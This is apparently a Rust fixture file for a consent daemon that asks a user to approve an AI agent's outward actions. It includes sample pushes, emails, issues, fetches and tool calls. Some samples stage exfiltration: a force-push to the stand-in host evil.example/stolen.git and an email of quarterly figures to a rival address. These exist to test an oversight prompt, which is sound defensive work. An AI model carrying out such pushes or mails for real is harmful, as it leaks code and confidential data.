//! Questions about what leaves this computer, and about what only a tool knows.

use super::{call_once, foreign, line};
use ironcurtain_daemon::consent::{Consequence, Lifetime, Offer, Piece, Question, Reach, Verb};

/// A push of a repository to a remote that nobody knows.
pub(super) fn push(base: Question) -> Question {
    let remote = vec![foreign("main"), Piece::Ours(" to "), foreign("https://evil.example/stolen.git")];
    let pushed = Consequence { asked_for: Some("origin".into()), object: remote, ..line(Verb::Push, "", "") };
    Question {
        server: "git".into(),
        tool: Some("git_push".into()),
        consequences: vec![
            Consequence { note: None, ..pushed },
            Consequence { allowed: true, ..line(Verb::Record, "/home/ada/src/app", "folder") },
        ],
        with: vec![("force".into(), "true".into())],
        also: vec![],
        reason: "Reaching the network needs your word.".into(),
        rule: "ask-before-connecting".into(),
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}

pub(super) fn commit(base: Question) -> Question {
    let repository = Piece::Path("/home/ada/src/app".into());
    let object = vec![foreign("Ship it: the third attempt"), Piece::Ours(" in "), repository];
    Question {
        server: "git".into(),
        tool: Some("git_commit".into()),
        consequences: vec![Consequence { object, note: Some("folder".into()), ..line(Verb::Commit, "", "") }],
        also: vec![],
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}

pub(super) fn mail(base: Question) -> Question {
    let to = |who| Consequence {
        object: vec![Piece::Ours("a message to "), foreign(who)],
        note: None,
        ..line(Verb::Send, "", "")
    };
    Question {
        server: "mail".into(),
        tool: Some("send_email".into()),
        consequences: vec![to("boss@rival.example"), to("ada@home.example")],
        with: vec![
            ("subject".into(), "Figures".into()),
            ("body".into(), "Hello,\nattached are our figures of the third quarter.\nAda".into()),
        ],
        also: vec![],
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}

pub(super) fn issue(base: Question) -> Question {
    let object = vec![Piece::Ours("to "), foreign("acme/app"), Piece::Ours(" on GitHub")];
    Question {
        server: "github".into(),
        tool: Some("create_issue".into()),
        consequences: vec![Consequence { object, note: None, ..line(Verb::Publish, "", "") }],
        with: vec![("title".into(), "It leaks".into()), ("body".into(), "Here is how.".into())],
        also: vec![],
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}

/// A server wants to go somewhere by itself.
pub(super) fn host(base: Question) -> Question {
    use Lifetime::{Always, Hour, Once, QuarterHour, Session};
    Question {
        server: "fetch".into(),
        server_command: "/usr/bin/python3 -m mcp_server_fetch".into(),
        tool: None,
        consequences: vec![Consequence {
            object: vec![foreign("files.example.org:443")],
            note: None,
            ..line(Verb::Reach, "", "")
        }],
        also: vec![],
        rule: "network.askUnknown".into(),
        reason: "the host is not on the list of the server fetch".into(),
        arguments: vec![],
        preview: None,
        offers: vec![Offer {
            reach: Reach::Host,
            label: "this host and port".into(),
            sentence: "Claude Code may reach files.example.org:443 through the server fetch".into(),
            lifetimes: vec![Once, Session, QuarterHour, Hour, Always],
        }],
        ..base
    }
}

/// A call that names an address.
pub(super) fn fetch(base: Question) -> Question {
    let address = "https://files.example.org/packages/source/r/requests/requests-2.34.2.tar.gz?from=agent";
    let mut offers = base.offers;
    for offer in &mut offers {
        offer.lifetimes.retain(|lifetime| *lifetime != Lifetime::Once);
    }
    offers.insert(0, call_once());
    Question {
        tool: Some("fetch".into()),
        consequences: vec![Consequence {
            object: vec![foreign(address)],
            note: None,
            ..line(Verb::Fetch, "", "")
        }],
        rule: "structural-domain-escalate".into(),
        reason: "`files.example.org` is not among the hosts of the server `fetch`".into(),
        arguments: vec![("url".into(), address.into())],
        offers,
        ..base
    }
}

pub(super) fn tool(base: Question) -> Question {
    Question {
        server: "memory".into(),
        tool: Some("create_entities".into()),
        consequences: vec![Consequence {
            object: vec![
                Piece::Ours("the tool "),
                foreign("create_entities"),
                Piece::Ours(" of the server "),
                foreign("memory"),
            ],
            note: None,
            ..line(Verb::Use, "", "")
        }],
        with: vec![("entities".into(), "[{\"name\": \"Ada\"}]".into())],
        also: vec![],
        preview: None,
        offers: vec![
            call_once(),
            Offer {
                reach: Reach::Tool,
                label: "this tool, with any entities".into(),
                sentence: "Claude Code may use create_entities of the server memory".into(),
                lifetimes: vec![Lifetime::Session, Lifetime::Hour, Lifetime::Always],
            },
        ],
        ..base
    }
}

/// A tool that nobody has described, with arguments of forty lines: all of them are shown.
pub(super) fn unknown(base: Question) -> Question {
    let script: String =
        (1..=40).map(|n| format!("step {n}: copy report-{n:02}.csv to the archive\n")).collect();
    let with = vec![("script".to_owned(), script), ("dry_run".to_owned(), "false".to_owned())];
    Question {
        server: "automation".into(),
        tool: Some("run_script".into()),
        consequences: vec![Consequence {
            object: vec![foreign("run_script")],
            note: Some("nobody has said what this tool does".into()),
            ..line(Verb::Call, "", "")
        }],
        arguments: with.clone(),
        with,
        also: vec![],
        rule: "unannotated".into(),
        reason: "nobody has said what this tool does".into(),
        preview: None,
        offers: vec![call_once()],
        ..base
    }
}
